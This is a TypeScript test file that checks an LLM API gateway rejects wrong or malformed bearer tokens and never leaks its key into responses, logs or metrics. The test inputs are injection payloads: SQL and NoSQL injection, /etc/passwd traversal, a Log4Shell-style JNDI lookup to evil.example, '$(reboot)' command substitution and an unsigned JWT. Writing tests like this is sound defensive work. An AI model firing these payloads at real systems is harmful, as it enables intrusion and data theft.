import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { chatRequest, exchange } from '../../support/raw-socket.ts';
import { until } from '../../support/until.ts';
import { chat, startFortress } from './fortress.ts';
import type { Fortress } from './fortress.ts';

const secret = 'sk-the-only-key-that-there-is';
let fortress: Fortress;
beforeAll(async () => {
  fortress = await startFortress(`keys: { team: { secret: ${secret} } }`);
});
afterAll(() => fortress[Symbol.asyncDispose]());

async function statusWith(...lines: readonly string[]): Promise<number> {
  const framing = [`content-length: ${chat.length}`, 'connection: close'];
  const [answer] = await exchange(fortress.url, chatRequest(chat, [...framing, ...lines]));
  expect(answer?.body).not.toContain(secret);
  return answer?.status ?? 0;
}

describe('a bearer', () => {
  it.each([
    "' OR '1'='1",
    "'; DROP TABLE keys; --",
    '" OR ""="',
    '{"$ne":null}',
    '*',
    '%00',
    'null',
    'undefined',
    '__proto__',
    'toString',
    '../../etc/passwd',
    '${jndi:ldap://evil.example/a}',
    '$(reboot)',
    'sha256:0000000000000000000000000000000000000000000000000000000000000000',
    'eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiJ9.',
    secret.slice(0, -1),
    `${secret}x`,
    secret.toUpperCase(),
    `${secret} ${secret}`,
    `${secret},${secret}`,
    'a'.repeat(8000),
    '\xe4\xf6\xfc',
  ])('is refused that is not the key: %j', async (token) => {
    expect(await statusWith(`authorization: Bearer ${token}`)).toBe(401);
    expect(fortress.engine.generations).toHaveLength(0);
  });

  it.each([
    [`authorization: ${secret}`],
    [`authorization: Basic ${Buffer.from(`x:${secret}`).toString('base64')}`],
    [`x-api-key: ${secret}`],
    [`cookie: authorization=${secret}`],
    [`proxy-authorization: Bearer ${secret}`],
    ['authorization: Bearer', `x: ${secret}`],
  ])('is refused in another place or form: %s', async (...lines) => {
    expect(await statusWith(...lines)).toBe(401);
  });

  it('is the key, and then serves; of two headers the first counts', async () => {
    expect(await statusWith(`Authorization: bearer ${secret}`)).toBe(200);
    expect(await statusWith('authorization: Bearer wrong-key-of-some-length', `authorization: Bearer ${secret}`)).toBe(
      401,
    );
  });

  it('is in no log line and on no page of metrics, right or wrong', async () => {
    await statusWith(`authorization: Bearer ${secret}`);
    const page = await (await fetch(`${fortress.url}/metrics`)).text();
    expect(page).toMatch(/slipstream_key_requests_total\{key_name="team",model="tgi",outcome="ok"\} \d/);
    expect(page).toMatch(/slipstream_requests_total\{model="other",variant="none",outcome="unauthorized"\} \d/);
    // A line waits for company for some milliseconds.
    await until(async () => fortress.log().includes('"key":"team"'), 'no line names the key');
    for (const text of [page, fortress.log()]) expect(text).not.toMatch(/the-only-key|DROP TABLE|wrong-key/);
  });
});
